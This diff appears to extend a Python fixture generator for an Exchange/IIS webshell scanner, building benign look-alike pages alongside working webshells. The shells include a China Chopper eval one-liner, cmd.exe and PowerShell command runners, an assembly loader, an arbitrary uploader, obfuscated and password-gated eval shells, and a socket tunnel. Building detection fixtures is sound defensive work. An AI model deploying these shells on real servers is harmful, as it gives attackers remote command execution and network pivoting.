@@ -642,8 +642,11 @@ def fake_jpeg(key):
             + b"\xff\xd9")
 
 
-def discover_aspx():
-    """The OAB-settings dump the ResetOABVirtualDirectory trick leaves behind (synthetic)."""
+def discover_aspx(external_url="http://f/" + SHELL_SCRIPT):
+    """The OAB-settings dump the ResetOABVirtualDirectory trick leaves behind (synthetic).
+
+    external_url is the value of the one ExternalUrl line; an ordinary URL gives the dump an
+    administrator might save on purpose."""
     props = [
         ("RunspaceId", "d0c3b5a1-6e2f-4c8a-9f17-3b2a1c0e5d94"),
         ("Name", "OAB (Default Web Site)"),
@@ -662,7 +665,7 @@ def discover_aspx():
         ("Server", SERVER),
         ("InternalUrl", "https://%s/OAB" % FQDN.lower()),
         ("InternalAuthenticationMethods", "{WindowsIntegrated}"),
-        ("ExternalUrl", "http://f/" + SHELL_SCRIPT),
+        ("ExternalUrl", external_url),
         ("ExternalAuthenticationMethods", "{WindowsIntegrated}"),
         ("AdminDisplayName", ""),
         ("ExchangeVersion", "0.10 (14.0.100.0)"),
@@ -688,6 +691,796 @@ def discover_aspx():
     text = CRLF.join(lines)
     text.encode("ascii")
     return text
+
+
+# --------------------------------------------------------------------------------------
+# Web pages (shells and ordinary pages) and binary drops
+# --------------------------------------------------------------------------------------
+# Every page below was written for these fixtures from the shapes described in the
+# project notes (iocs-and-webshells.md sections 0, 2 and 4); none is copied from a
+# public sample. Pages are CRLF text like files saved on Windows, unless a case says
+# otherwise.
+
+FRONTEND = V15 + "/FrontEnd/HttpProxy"
+OWA_AUTH = FRONTEND + "/owa/auth"
+ECP_AUTH = FRONTEND + "/ecp/auth"
+WWWROOT = "inetpub/wwwroot"
+ASPNET_CLIENT = WWWROOT + "/aspnet_client"
+TEMP_ASPNET = "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"
+
+
+def page(text):
+    """Page source written with LF in this file -> CRLF bytes, as saved on Windows."""
+    assert "\r" not in text
+    return text.replace("\n", CRLF).encode("utf-8")
+
+
+def chopper_script(param, host=None):
+    """The JScript Page_Load one-liner in a server-side script block (notes section 4.2)."""
+    s = ('<script language="JScript" runat="server">'
+         'function Page_Load(){eval(Request["%s"],"unsafe");}</script>' % param)
+    return s if host is None else "http://%s/%s" % (host, s)
+
+
+# --- tiny one-liners -------------------------------------------------------------------
+
+JSCRIPT_ITEM_SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["zx"],"unsafe");%>'
+VBSCRIPT_EXEC_SHELL = '<% Execute Request("c") %>'
+
+# --- C# process execution ----------------------------------------------------------------
+
+PROCESS_FORM_SHELL = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    if (Request.HttpMethod != "POST") return;
+    ProcessStartInfo psi = new ProcessStartInfo();
+    psi.FileName = "cmd.exe";
+    psi.Arguments = "/c " + Request.Form["q"];
+    psi.UseShellExecute = false;
+    psi.RedirectStandardOutput = true;
+    psi.CreateNoWindow = true;
+    using (Process p = Process.Start(psi))
+    {
+        Out.InnerText = p.StandardOutput.ReadToEnd();
+    }
+}
+</script>
+<html><body>
+<form method="post" runat="server"><input name="q" size="80" /> <input type="submit" value="Run" /></form>
+<pre id="Out" runat="server"></pre>
+</body></html>
+"""
+
+# The demo's second planted shell (examples/compromised, owa\\auth\\OutlookJP2.aspx):
+# bounces visitors without the parameter to the logon page, runs PowerShell otherwise.
+OUTLOOKJP2_SHELL = """<%@ Page Language="C#" Debug="false" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e)
+{
+    string c = Request.Params["jp"];
+    if (String.IsNullOrEmpty(c))
+    {
+        Response.Redirect("/owa/auth/logon.aspx?url=%2fowa%2f&reason=0");
+        return;
+    }
+    Process p = new Process();
+    p.StartInfo.FileName = "powershell.exe";
+    p.StartInfo.Arguments = "-NoProfile -NonInteractive -Command " + c;
+    p.StartInfo.UseShellExecute = false;
+    p.StartInfo.RedirectStandardOutput = true;
+    p.StartInfo.RedirectStandardError = true;
+    p.StartInfo.CreateNoWindow = true;
+    p.Start();
+    string output = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
+    p.WaitForExit();
+    Response.ContentType = "text/plain";
+    Response.Write(output);
+}
+</script>
+"""
+
+PROCESS_NEAR_PAGE = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+protected void Restart_Click(object sender, EventArgs e)
+{
+    if (!User.IsInRole(@"CORP\\Web Admins"))
+    {
+        Msg.Text = "Only members of Web Admins may restart IIS.";
+        return;
+    }
+    Process p = Process.Start("iisreset.exe");
+    p.WaitForExit(120000);
+    Msg.Text = "iisreset finished with exit code " + p.ExitCode + ".";
+}
+</script>
+<html><head><title>Restart IIS</title></head><body>
+<form runat="server">
+<p>Restarts all IIS services on this server. Users are disconnected for about a minute.</p>
+<asp:Button ID="Restart" runat="server" Text="Restart IIS" OnClick="Restart_Click" />
+<p><asp:Label ID="Msg" runat="server" /></p>
+</form>
+</body></html>
+"""
+
+# --- reflection -------------------------------------------------------------------------
+
+ASSEMBLY_LOAD_SHELL = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Reflection" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    if (Request.Form["d"] == null)
+    {
+        Response.StatusCode = 404;
+        return;
+    }
+    Assembly a = Assembly.Load(Convert.FromBase64String(Request.Form["d"]));
+    a.GetType("Q").GetMethod("Run").Invoke(null, new object[] { Context });
+}
+</script>
+"""
+
+ASSEMBLY_LOAD_NEAR_PAGE = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Reflection" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    Assembly ext = Assembly.Load("System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35");
+    Ver.Text = ext.GetName().Version.ToString();
+}
+</script>
+<html><head><title>Components</title></head><body>
+<p>System.Web.Extensions version: <asp:Label ID="Ver" runat="server" /></p>
+</body></html>
+"""
+
+# --- uploads ----------------------------------------------------------------------------
+
+UPLOAD_SHELL = """<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e)
+{
+    if (Request.Files.Count > 0)
+    {
+        Request.Files[0].SaveAs(Server.MapPath(Request["p"]));
+        Response.Write("ok");
+    }
+}
+</script>
+"""
+
+UPLOAD_NEAR_PAGE = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx", ".png", ".jpg" };
+
+protected void Send_Click(object sender, EventArgs e)
+{
+    if (Request.Files.Count == 0 || Request.Files[0].ContentLength == 0)
+    {
+        Msg.Text = "Choose a file first.";
+        return;
+    }
+    HttpPostedFile f = Request.Files[0];
+    if (f.ContentLength > 10 * 1024 * 1024)
+    {
+        Msg.Text = "The file is larger than 10 MB.";
+        return;
+    }
+    string name = Path.GetFileName(f.FileName);
+    string ext = Path.GetExtension(name).ToLowerInvariant();
+    if (Array.IndexOf(Allowed, ext) < 0)
+    {
+        Msg.Text = "Only PDF, Word, Excel, PNG and JPEG files are accepted.";
+        return;
+    }
+    string folder = Server.MapPath("~/App_Data/uploads");
+    f.SaveAs(Path.Combine(folder, Guid.NewGuid().ToString("N") + ext));
+    Msg.Text = "Received " + Server.HtmlEncode(name) + ". HR will be in touch.";
+}
+</script>
+<html><head><title>Send a document to HR</title></head><body>
+<form runat="server" enctype="multipart/form-data">
+<input type="file" name="doc" />
+<asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
+<p><asp:Label ID="Msg" runat="server" /></p>
+</form>
+</body></html>
+"""
+
+# --- eval look-alikes -------------------------------------------------------------------
+
+EVAL_NEAR_PAGE = """<%@ Page Language="C#" AutoEventWireup="true" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    if (!IsPostBack)
+    {
+        People.DataSource = new[] { new { Name = "Alice Example" }, new { Name = "Bob Example" } };
+        People.DataBind();
+    }
+}
+</script>
+<html><head><title>People</title></head><body>
+<ul>
+<asp:Repeater ID="People" runat="server">
+<ItemTemplate><li><%# Eval("Name") %></li></ItemTemplate>
+</asp:Repeater>
+</ul>
+<p>Two plus three is <span id="sum"></span>.</p>
+<script>var x = "2+3"; document.getElementById("sum").textContent = eval(x);</script>
+</body></html>
+"""
+
+# A string table with hex-escaped entries and an index function, in the style of the
+# common JavaScript obfuscators; the table hides the parameter name and "unsafe".
+OBFUSCATED_CODE = """var _0x5c1e=['\\x7a\\x71\\x37','\\x75\\x6e\\x73\\x61\\x66\\x65','\\x74\\x65\\x78\\x74\\x2f\\x68\\x74\\x6d\\x6c'];
+var _0x3a0d=function(_0x11f2){_0x11f2=_0x11f2-0x0;var _0x4b7c=_0x5c1e[_0x11f2];return _0x4b7c;};
+function Page_Load(){Response.ContentType=_0x3a0d('0x2');eval(Request[_0x3a0d('0x0')],_0x3a0d('0x1'));}
+"""
+
+OBFUSCATED_SHELL = ('<%@ Page Language="JScript" %>\n<script runat="server">\n' + OBFUSCATED_CODE +
+                    "</script>\n")
+
+OBFUSCATED_NEAR_PAGE = ("""<%@ Page Language="C#" %>
+<html><head><title>Service status</title>
+<script type="text/javascript">
+""" + OBFUSCATED_CODE + """</script>
+</head><body>
+<h1>Service status</h1>
+<p>All services are running.</p>
+</body></html>
+""")
+
+# --- a password gate in front of eval ---------------------------------------------------
+
+GATE_MD5 = hashlib.md5(b"exhunt fixture gate").hexdigest().upper()
+
+GATED_SHELL = """<%@ Page Language="JScript" %>
+<%@ Import Namespace="System.Web.Security" %>
+<script runat="server">
+function Page_Load() {
+    if (FormsAuthentication.HashPasswordForStoringInConfigFile(Request["pw"], "MD5") == "%s") {
+        eval(Request["c"], "unsafe");
+    } else {
+        Response.StatusCode = 404;
+        Response.End();
+    }
+}
+</script>
+""".replace("%s", GATE_MD5)
+
+# --- TCP tunnel and its near miss -------------------------------------------------------
+
+# A socket tunnel of the reGeorg kind, written for these fixtures: the client names the
+# target in request headers, the page keeps the socket in the session and relays bytes.
+TUNNEL_SHELL = """<%@ Page Language="C#" EnableSessionState="True" %>
+<%@ Import Namespace="System.Net" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    string op = Request.Headers["X-OP"];
+    if (op == "open")
+    {
+        string host = Request.Headers["X-HOST"];
+        int port = int.Parse(Request.Headers["X-PORT"]);
+        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+        s.Connect(new IPEndPoint(Dns.GetHostAddresses(host)[0], port));
+        s.Blocking = false;
+        Session["sock"] = s;
+        Response.AddHeader("X-RESULT", "0");
+    }
+    else if (op == "push")
+    {
+        Socket s = (Socket)Session["sock"];
+        s.Send(Request.BinaryRead(Request.ContentLength));
+        Response.AddHeader("X-RESULT", "0");
+    }
+    else if (op == "pull")
+    {
+        Socket s = (Socket)Session["sock"];
+        byte[] buf = new byte[16384];
+        int n = 0;
+        try { n = s.Receive(buf); } catch (SocketException) { }
+        Response.AddHeader("X-RESULT", "0");
+        Response.OutputStream.Write(buf, 0, n);
+    }
+    else if (op == "close")
+    {
+        Socket s = (Socket)Session["sock"];
+        if (s != null) s.Close();
+        Session.Remove("sock");
+        Response.AddHeader("X-RESULT", "0");
+    }
+    else
+    {
+        Response.StatusCode = 404;
+    }
+}
+</script>
+"""
+
+SMTP_CHECK_PAGE = """<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Configuration" %>
+<%@ Import Namespace="System.IO" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    string host = ConfigurationManager.AppSettings["SmtpHost"];
+    using (TcpClient client = new TcpClient())
+    {
+        client.Connect(host, 25);
+        using (StreamReader r = new StreamReader(client.GetStream()))
+        {
+            Banner.Text = Server.HtmlEncode(r.ReadLine());
+        }
+    }
+}
+</script>
+<html><head><title>SMTP check</title></head><body>
+<h1>SMTP relay check</h1>
+<p>Banner: <asp:Label ID="Banner" runat="server" /></p>
+</body></html>
+"""
+
+SMTP_CHECK_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
+<configuration>
+  <appSettings>
+    <add key="SmtpHost" value="EXCH01.corp.example.com" />
+  </appSettings>
+  <system.web>
+    <compilation targetFramework="4.8" />
+    <authentication mode="Windows" />
+    <authorization>
+      <allow roles="CORP\\Web Admins" />
+      <deny users="*" />
+    </authorization>
+  </system.web>
+</configuration>
+"""
+
+# --- harmless pages for the location rules ----------------------------------------------
+
+HARMLESS_REPORT_HTML = """<html>
+<head><title>Mail flow report</title></head>
+<body>
+<h1>Monthly mail-flow report</h1>
+<p>The report for February is attached to the IT newsletter.</p>
+</body>
+</html>
+"""
+
+ASPNET_CLIENT_README = """This folder holds client-side script files installed by ASP.NET.
+Do not delete it: the web applications on this server expect it.
+"""
+
+DEFAULT_HTM = """<!DOCTYPE html>
+<html>
+<head><meta charset="utf-8"><title>EXCH01</title></head>
+<body>
+<p>This server hosts Outlook on the web. Go to <a href="/owa/">/owa/</a> to sign in.</p>
+</body>
+</html>
+"""
+
+TIMEOUT_LOGOFF_PAGE = """<%@ Page Language="C#" AutoEventWireup="true" %>
+<html>
+<head><title>Signed out</title></head>
+<body>
+<p>Your session timed out and you have been signed out. Close all browser windows to finish.</p>
+</body>
+</html>
+"""
+
+EXTRA_ECP_PAGE = """<html>
+<head><title>Maintenance</title></head>
+<body>
+<p>The Exchange admin center is being updated. Please try again after 18:00.</p>
+</body>
+</html>
+"""
+
+HARMLESS_OK_PAGE = """<html>
+<head><title>OK</title></head>
+<body><p>OK</p></body>
+</html>
+"""
+
+HELP_PAGE = """<%@ Page Language="C#" %>
+<html>
+<head><title>Help</title></head>
+<body>
+<h1>Intranet help</h1>
+<ul>
+<li>Password reset: call the service desk on extension 4400.</li>
+<li>Room booking: use the Rooms page.</li>
+</ul>
+</body>
+</html>
+"""
+
+DROPPER_PAGE = """<%@ Page Language="C#" %>
+<html><head><title>Custom</title></head><body><p>Custom pages for the finance team.</p></body></html>
+"""
+
+# --- examples/clean: an ordinary intranet application -----------------------------------
+
+INTRANET_WEB_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
+<configuration>
+  <appSettings>
+    <add key="UploadFolder" value="~/App_Data/uploads" />
+  </appSettings>
+  <system.web>
+    <compilation targetFramework="4.8" />
+    <httpRuntime targetFramework="4.8" maxRequestLength="10240" />
+    <authentication mode="Windows" />
+    <authorization>
+      <deny users="?" />
+    </authorization>
+  </system.web>
+</configuration>
+"""
+
+INTRANET_DEFAULT_ASPX = """<%@ Page Language="C#" AutoEventWireup="true" CodeFile="Default.aspx.cs" Inherits="Intranet.DefaultPage" %>
+<!DOCTYPE html>
+<html>
+<head runat="server"><title>Intranet</title></head>
+<body>
+<form id="main" runat="server">
+<h1>Welcome, <asp:Label ID="UserName" runat="server" /></h1>
+<asp:Panel ID="News" runat="server"><p>The canteen is closed on Friday.</p></asp:Panel>
+<asp:Panel ID="Links" runat="server" Visible="false">
+<ul><li><a href="Upload.aspx">Send a document</a></li><li><a href="Rooms.ashx">Rooms (JSON)</a></li></ul>
+</asp:Panel>
+</form>
+</body>
+</html>
+"""
+
+INTRANET_DEFAULT_CS = """using System;
+using System.Web.UI;
+
+namespace Intranet
+{
+    public partial class DefaultPage : Page
+    {
+        protected void Page_Load(object sender, EventArgs e)
+        {
+            UserName.Text = Server.HtmlEncode(User.Identity.Name);
+            string tab = Request.QueryString["tab"];
+            bool links = string.Equals(tab, "links", StringComparison.OrdinalIgnoreCase);
+            News.Visible = !links;
+            Links.Visible = links;
+        }
+    }
+}
+"""
+
+INTRANET_UPLOAD_ASPX = """<%@ Page Language="C#" AutoEventWireup="true" CodeFile="Upload.aspx.cs" Inherits="Intranet.UploadPage" %>
+<!DOCTYPE html>
+<html>
+<head runat="server"><title>Send a document</title></head>
+<body>
+<form id="up" runat="server" enctype="multipart/form-data">
+<p>PDF, Word or Excel, up to 10 MB.</p>
+<asp:FileUpload ID="Doc" runat="server" />
+<asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
+<p><asp:Label ID="Msg" runat="server" /></p>
+</form>
+</body>
+</html>
+"""
+
+INTRANET_UPLOAD_CS = """using System;
+using System.Configuration;
+using System.IO;
+using System.Web.UI;
+
+namespace Intranet
+{
+    public partial class UploadPage : Page
+    {
+        static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx" };
+        const int MaxBytes = 10 * 1024 * 1024;
+
+        protected void Send_Click(object sender, EventArgs e)
+        {
+            if (!Doc.HasFile)
+            {
+                Msg.Text = "Choose a file first.";
+                return;
+            }
+            if (Doc.PostedFile.ContentLength > MaxBytes)
+            {
+                Msg.Text = "The file is larger than 10 MB.";
+                return;
+            }
+            string original = Path.GetFileName(Doc.FileName);
+            string ext = Path.GetExtension(original).ToLowerInvariant();
+            if (Array.IndexOf(Allowed, ext) < 0)
+            {
+                Msg.Text = "Only PDF, Word and Excel files are accepted.";
+                return;
+            }
+            string folder = Server.MapPath(ConfigurationManager.AppSettings["UploadFolder"]);
+            string stored = Guid.NewGuid().ToString("N") + ext;
+            Doc.SaveAs(Path.Combine(folder, stored));
+            Msg.Text = "Received " + Server.HtmlEncode(original) + ".";
+        }
+    }
+}
+"""
+
+INTRANET_ROOMS_ASHX = """<%@ WebHandler Language="C#" Class="Intranet.Rooms" %>
+using System;
+using System.Text;
+using System.Web;
+
+namespace Intranet
+{
+    public class Rooms : IHttpHandler
+    {
+        static readonly string[] Names = { "Harbour", "Lighthouse", "Dune", "Tide" };
+        static readonly int[] Floors = { 1, 1, 2, 3 };
+
+        public void ProcessRequest(HttpContext context)
+        {
+            int floor;
+            bool filter = int.TryParse(context.Request.QueryString["floor"], out floor);
+            StringBuilder json = new StringBuilder("[");
+            for (int i = 0; i < Names.Length; i++)
+            {
+                if (filter && Floors[i] != floor) continue;
+                if (json.Length > 1) json.Append(',');
+                json.Append("{\\"name\\":\\"").Append(Names[i]).Append("\\",\\"floor\\":").Append(Floors[i]).Append('}');
+            }
+            json.Append(']');
+            context.Response.ContentType = "application/json";
+            context.Response.Write(json.ToString());
+        }
+
+        public bool IsReusable { get { return true; } }
+    }
+}
+"""
+
+# --- IIS configuration ------------------------------------------------------------------
+
+
+def application_host_config(extra_vdirs):
+    """A trimmed applicationHost.config: Default Web Site (with the Exchange front-end
+    applications) and Exchange Back End. extra_vdirs: [(path, physicalPath)] added to the
+    root application of Default Web Site."""
+    vd = "".join('                    <virtualDirectory path="%s" physicalPath="%s" />\n' % v
+                 for v in extra_vdirs)
+    fe = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy"
+    be = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess"
+    return """<?xml version="1.0" encoding="UTF-8"?>
+<configuration>
+    <configSections>
+        <sectionGroup name="system.applicationHost">
+            <section name="applicationPools" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
+            <section name="sites" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
+        </sectionGroup>
+        <sectionGroup name="system.webServer">
+            <section name="defaultDocument" overrideModeDefault="Allow" />
+            <section name="directoryBrowse" overrideModeDefault="Allow" />
+        </sectionGroup>
+    </configSections>
+    <system.applicationHost>
+        <applicationPools>
+            <add name="DefaultAppPool" />
+            <add name="MSExchangeOWAAppPool" managedRuntimeVersion="v4.0" />
+            <add name="MSExchangeECPAppPool" managedRuntimeVersion="v4.0" />
+        </applicationPools>
+        <sites>
+            <site name="Default Web Site" id="1" serverAutoStart="true">
+                <application path="/">
+                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />
+""" + vd + """                </application>
+                <application path="/owa" applicationPool="MSExchangeOWAAppPool">
+                    <virtualDirectory path="/" physicalPath="FE\\owa" />
+                </application>
+                <application path="/ecp" applicationPool="MSExchangeECPAppPool">
+                    <virtualDirectory path="/" physicalPath="FE\\ecp" />
+                </application>
+                <bindings>
+                    <binding protocol="https" bindingInformation="*:443:" />
+                    <binding protocol="http" bindingInformation="*:80:" />
+                </bindings>
+            </site>
+            <site name="Exchange Back End" id="2" serverAutoStart="true">
+                <application path="/">
+                    <virtualDirectory path="/" physicalPath="C:\\inetpub\\wwwroot" />
+                </application>
+                <application path="/owa" applicationPool="MSExchangeOWAAppPool">
+                    <virtualDirectory path="/" physicalPath="BE\\owa" />
+                </application>
+                <bindings>
+                    <binding protocol="https" bindingInformation="*:444:" />
+                    <binding protocol="http" bindingInformation="*:81:" />
+                </bindings>
+            </site>
+            <siteDefaults>
+                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />
+            </siteDefaults>
+        </sites>
+    </system.applicationHost>
+    <system.webServer>
+        <defaultDocument enabled="true">
+            <files>
+                <add value="default.htm" />
+                <add value="default.aspx" />
+            </files>
+        </defaultDocument>
+        <directoryBrowse enabled="false" />
+    </system.webServer>
+</configuration>
+""".replace("FE\\\\", fe + "\\\\").replace("BE\\\\", be + "\\\\")
+
+
+# --- binary containers ------------------------------------------------------------------
+
+
+def byte_stream(key, n, avoid=b"<%"):
+    """n deterministic pseudo-random bytes with the bytes in `avoid` left out, so that
+    filler can never form a script tag by chance."""
+    out = bytearray()
+    block = hashlib.sha256(key.encode()).digest()
+    while len(out) < n:
+        block = hashlib.sha256(block).digest()
+        out += bytes(b for b in block if b not in avoid)
+    return bytes(out[:n])
+
+
+def pst_like(key, plain_parts, size):
+    """A file shaped like a Unicode PST: the '!BDN' header (magic, partial CRC, 'SM',
+    version 23, client version 19, platform bytes, encryption = permute), then
+    pseudo-random 'encoded' blocks. plain_parts: [(offset, bytes)] placed verbatim,
+    the way a pre-encoded attachment reappears as plaintext."""
+    body = bytearray(byte_stream(key, size))
+    hdr = bytearray(byte_stream(key + ":hdr", 564))
+    hdr[0:4] = b"!BDN"
+    hdr[8:10] = b"SM"
+    hdr[10:16] = struct.pack("<HHBB", 23, 19, 1, 1)
+    hdr[16:24] = b"\x00" * 8
+    hdr[0x201] = 1                  # bCryptMethod: NDB_CRYPT_PERMUTE
+    hdr[4:8] = struct.pack("<I", zlib.crc32(bytes(hdr[8:479])) & 0xFFFFFFFF)
+    body[0:564] = hdr
+    for off, data in plain_parts:
+        assert off >= 564 and off + len(data) <= size
+        body[off:off + len(data)] = data
+    return bytes(body)
+
+
+def der_len(n):
+    if n < 0x80:
+        return bytes([n])
+    if n < 0x100:
+        return b"\x81" + bytes([n])
+    return b"\x82" + struct.pack(">H", n)
+
+
+def der(tag, *parts):
+    body = b"".join(parts)
+    return bytes([tag]) + der_len(len(body)) + body
+
+
+def der_oid(dotted):
+    nums = [int(x) for x in dotted.split(".")]
+    out = bytes([40 * nums[0] + nums[1]])
+    for v in nums[2:]:
+        enc = [v & 0x7F]
+        v >>= 7
+        while v:
+            enc.append(0x80 | (v & 0x7F))
+            v >>= 7
+        out += bytes(reversed(enc))
+    return der(0x06, out)
+
+
+OID_CN, OID_O, OID_C = "2.5.4.3", "2.5.4.10", "2.5.4.6"
+OID_RSA, OID_SHA256_RSA, OID_SAN = "1.2.840.113549.1.1.1", "1.2.840.113549.1.1.11", "2.5.29.17"
+
+
+def der_name(rdns):
+    """rdns: [(oid, tag, text)] -> Name."""
+    return der(0x30, *[der(0x31, der(0x30, der_oid(o), der(tag, v.encode("utf-8"))))
+                       for o, tag, v in rdns])
+
+
+def der_rsa_spki(key):
+    modulus = bytearray(byte_stream(key + ":n", 256, avoid=b""))
+    modulus[0] |= 0x80
+    modulus[-1] |= 0x01
+    rsa = der(0x30, der(0x02, b"\x00" + bytes(modulus)), der(0x02, b"\x01\x00\x01"))
+    return der(0x30, der(0x30, der_oid(OID_RSA), b"\x05\x00"), der(0x03, b"\x00" + rsa))
+
+
+def der_sig(key):
+    return (der(0x30, der_oid(OID_SHA256_RSA), b"\x05\x00"),
+            der(0x03, b"\x00" + byte_stream(key + ":sig", 256, avoid=b"")))
+
+
+def der_csr(subject_cn, key):
+    """A PKCS#10 request whose subject CN is subject_cn (what New-ExchangeCertificate
+    -GenerateRequest -BinaryEncoded writes)."""
+    info = der(0x30, der(0x02, b"\x00"), der_name([(OID_CN, 0x0C, subject_cn)]),
+               der_rsa_spki(key), der(0xA0))
+    return der(0x30, info, *der_sig(key))
+
+
+def der_cert(cn, sans, key):
+    """A self-contained X.509 v3 certificate (structure only; the signature is filler)."""
+    issuer = der_name([(OID_C, 0x13, "US"), (OID_O, 0x0C, "Example Corp"),
+                       (OID_CN, 0x0C, "Example Corp Issuing CA 01")])
+    subject = der_name([(OID_C, 0x13, "US"), (OID_O, 0x0C, "Example Corp"), (OID_CN, 0x0C, cn)])
+    validity = der(0x30, der(0x17, b"230105000000Z"), der(0x17, b"250104235959Z"))
+    serial = bytearray(hashlib.sha256((key + ":serial").encode()).digest()[:16])
+    serial[0] &= 0x7F
+    san = der(0x30, *[der(0x82, s.encode()) for s in sans])
+    ext = der(0xA3, der(0x30, der(0x30, der_oid(OID_SAN), der(0x04, san))))
+    tbs = der(0x30, der(0xA0, der(0x02, b"\x02")), der(0x02, bytes(serial)),
+              der(0x30, der_oid(OID_SHA256_RSA), b"\x05\x00"), issuer, validity, subject,
+              der_rsa_spki(key), ext)
+    return der(0x30, tbs, *der_sig(key))
+
+
+def app_web_dll(key, names, user_strings, size=4096):
+    """A file shaped like an ASP.NET temp-compiled page assembly (App_Web_*.dll): MZ
+    header with DOS stub, PE/COFF header for a 32-bit DLL, three section headers, and in
+    .text a CLI metadata root ('BSJB', v4.0.30319) followed by a #Strings heap (names,
+    ASCII) and a #US heap (user strings, UTF-16LE)."""
+    dos = bytearray(0x80)
+    dos[0:2] = b"MZ"
+    dos[2:0x1C] = struct.pack("<13H", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
+    dos[0x3C:0x40] = struct.pack("<I", 0x80)
+    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
+            b"This program cannot be run in DOS mode.\r\r\n$")
+    dos[0x40:0x40 + len(stub)] = stub
+    ts = 0x6040A1C3 + int(hashlib.sha256(key.encode()).hexdigest()[:4], 16)
+    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 3, ts, 0, 0, 0xE0, 0x2102)
+    opt = bytearray(0xE0)
+    opt[0:2] = struct.pack("<H", 0x10B)
+    opt[16:20] = struct.pack("<I", 0x2000)           # entry point RVA
+    opt[28:32] = struct.pack("<I", 0x10000000)       # image base
+    opt[32:40] = struct.pack("<II", 0x2000, 0x200)   # section / file alignment
+    opt[0xD0:0xD8] = struct.pack("<II", 0x2008, 0x48)  # CLI header data directory
+    sections = b""
+    for i, name in enumerate((b".text", b".rsrc", b".reloc")):
+        raw = 0x200 + i * 0x400
+        sections += struct.pack("<8sIIIIIIHHI", name, 0x400, 0x2000 + i * 0x2000, 0x400, raw,
+                                0, 0, 0, 0, 0x60000020 if i == 0 else 0x40000040)
+    head = bytes(dos) + coff + bytes(opt) + sections
+    head += b"\x00" * (0x200 - len(head))
+    strings = b"\x00" + b"".join(n.encode("ascii") + b"\x00" for n in names)
+    us = b"\x00"
+    for s in user_strings:
+        u = s.encode("utf-16-le") + b"\x00"
+        us += bytes([len(u)]) + u
+    version = b"v4.0.30319\x00\x00"
+    root = (b"BSJB" + struct.pack("<HHII", 1, 1, 0, len(version)) + version +
+            struct.pack("<HH", 0, 2))
+    root += struct.pack("<II", 0x60, len(strings)) + b"#Strings\x00\x00\x00\x00"
+    root += struct.pack("<II", 0x60 + len(strings), len(us)) + b"#US\x00"
+    text = b"\x00" * 0x50 + root
+    text += b"\x00" * (0x60 - (len(text) - 0x50)) + strings + us
+    body = head + text
+    assert len(body) < size
+    return body + b"\x00" * (size - len(body))
+
+
+def fake_pdf(key):
+    obj = hashlib.sha256(key.encode()).hexdigest()
+    return ("%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+            "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+            "%% %s\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n" % obj).encode("ascii")
 
 
 # --------------------------------------------------------------------------------------
